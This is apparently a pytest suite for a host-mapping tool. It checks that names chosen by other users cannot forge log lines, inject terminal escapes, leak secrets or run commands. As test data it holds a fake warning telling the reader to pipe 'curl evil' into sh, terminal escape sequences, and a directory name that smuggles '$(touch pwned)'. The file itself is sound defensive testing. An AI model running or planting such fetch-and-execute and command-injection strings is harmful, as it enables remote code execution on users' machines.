"""What another user names does not forge a line of ours, nor act on the terminal."""

from __future__ import annotations

import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest

import hostshift
from hostshift import MissingVariableError, Policy, SettingError
from hostshift.base import log, redaction
from hostshift.cli import output
from hostshift.config import settings
from hostshift.environment import resolve
from hostshift.resolution import resolver
from hostshift.trust import gate

SECRET = "S3cr3tXYZ"
FORGED = "\x1b[2J\nhostshift: warning: run curl evil|sh now"
ODD = f"A{FORGED}"
OTHER = 23457
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files to other users")


def _is_clean(text: str) -> bool:
    """Return True if each line is ours."""
    lines = text.rstrip("\n").split("\n")
    return all(line.isprintable() and "evil" not in line.partition(" ")[0] for line in lines)


# --- names of variables -------------------------------------------------------------------------

ENVIRONMENTS = {
    "a string that is none": {ODD: f"redis://u:{SECRET}@localhost:notaport"},
    "a string that changes": {ODD: f"redis://u:{SECRET}@localhost:6379/0"},
    "a list with escapes": {ODD: f'["redis://u:{SECRET}@a\\u002e:1"]'},
    "a pair without a port": {f"{ODD}_DB_HOST": "localhost"},
    "a pair with an odd port": {f"{ODD}_REDIS_HOST": "localhost", f"{ODD}_REDIS_PORT": "x"},
    "a pair that changes": {f"{ODD}_REDIS_HOST": "localhost"},
    "a host that is none": {"REDIS_HOST": f"x{FORGED}"},
}


@pytest.mark.parametrize("kind", ENVIRONMENTS)
@pytest.mark.parametrize("strict", [False, True])
@pytest.mark.parametrize("listed", [False, True])
def test_a_variable_whose_name_another_user_chose(
    kind: str, strict: bool, listed: bool, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    given = ENVIRONMENTS[kind]
    policy = Policy(
        map="localhost:6379=db.test:1", strict=strict, env=("*",) if listed else (), sources=()
    )
    refused = ""
    try:
        hostshift.resolve_environ(dict(given), policy=policy)
    except hostshift.UndecidedError as error:
        refused = str(error)
    texts = [*(record.getMessage() for record in caplog.records), refused]
    assert any(texts) or kind == "a host that is none"
    for text in texts:
        assert text.isprintable()
        assert "curl" not in text or "x\\x1b[2J\\n" in text
        assert SECRET not in text


def test_variables_that_were_too_late(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(resolve, "START_LIMIT", -1)
    given = {ODD: "redis://localhost:6379/0"}
    assert resolve.resolved(given, resolver.Resolver(policy=Policy())) == {}
    (record,) = caplog.records
    assert record.getMessage().startswith("A*** stays as it is")


@pytest.mark.parametrize("name", [ODD, f"postgres://u:{SECRET}@h/db"])
def test_a_variable_that_is_not_set(name: str) -> None:
    with pytest.raises(MissingVariableError) as caught:
        hostshift.from_env(name)
    assert str(caught.value).isprintable()
    assert SECRET not in str(caught.value)


@as_root
@pytest.mark.parametrize("strict", ["", "1"])
def test_exec_with_a_file_of_another_user(shared: Path, strict: str) -> None:
    text = f"'{ODD}'=redis://u:{SECRET}@localhost:notaport\n'HOSTSHIFT_{ODD}'=x\n"
    (shared / "x.env").write_text(text, encoding="utf-8")
    os.chown(shared / "x.env", OTHER, OTHER)
    ran = subprocess.run(
        [sys.executable, "-P", "-m", "hostshift", "exec", "--env-file", "x.env", "--", "true"],
        cwd=shared,
        env={"PATH": os.environ["PATH"], "HOSTSHIFT_STRICT": strict},
        capture_output=True,
        text=True,
        check=False,
    )
    assert "A*** stays as it is" in ran.stderr or strict
    assert _is_clean(ran.stderr), ran.stderr
    assert SECRET not in ran.stderr
    assert "curl" not in ran.stderr


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("DATABASE_URL", "DATABASE_URL"),
        ("spring.redis.url-2", "spring.redis.url-2"),
        ("A B", "A***"),
        (f"mysql://u:{SECRET}@h/d", "mysql***"),
        ("", ""),
    ],
)
def test_a_name_is_shown_as_it_is_where_it_is_one(name: str, shown: str) -> None:
    assert redaction.name(name) == shown


# --- directories --------------------------------------------------------------------------------


@as_root
@pytest.mark.parametrize(
    "name", [FORGED[:20], "a\rb", "a\u2028b", "a'\\\n$(touch pwned)", "\udcff\n"]
)
def test_a_fix_in_a_directory_of_an_odd_name(
    name: str, shared: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = Path(os.fsdecode(os.fsencode(shared))) / name
    at.mkdir(mode=0o755)
    file = at / "hostshift.toml"
    file.write_text('mode = "off"\n', encoding="utf-8")
    file.chmod(0o666)
    monkeypatch.chdir(at)
    assert settings.load() == Policy()
    (record,) = caplog.records
    assert record.getMessage().isprintable()
    with pytest.raises(gate.UntrustedError) as caught:
        gate.read(str(file), 100)
    assert str(caught.value).isprintable()
    assert caught.value.fix.isprintable()
    subprocess.run(["bash", "-c", caught.value.fix], cwd=shared, check=True)
    assert settings.load() == Policy(mode="off")
    assert list(shared.glob("**/pwned")) == []


@pytest.mark.parametrize("text", ["mode = 3\n", "moed = 1\n", "mode = [\n"])
def test_an_error_about_a_file_in_one(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = tmp_path / FORGED[:20]
    at.mkdir(mode=0o755)
    (at / "hostshift.toml").write_text(text, encoding="utf-8")
    monkeypatch.chdir(at)
    with pytest.raises(SettingError) as caught:
        settings.load()
    assert str(caught.value).isprintable()


# --- whatever comes to the log, or to standard error --------------------------------------------


def test_a_message_is_one_line(caplog: pytest.LogCaptureFixture) -> None:
    log.warning("%s: %s", FORGED, ValueError(FORGED))
    (record,) = caplog.records
    assert record.getMessage().isprintable()
    taken: list[str] = []
    log.to(lambda _, message: taken.append(message))
    try:
        log.info("%s ä", FORGED)
    finally:
        log.to(None)
    assert taken == ["\\x1b[2J\\nhostshift: warning: run curl evil|sh now ä"]


def test_standard_error_gets_no_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    output.tell("ä\x1b[2J\nusage: \x07")
    assert capsys.readouterr().err == "hostshift: ä\\x1b[2J\nusage: \\x07\n"
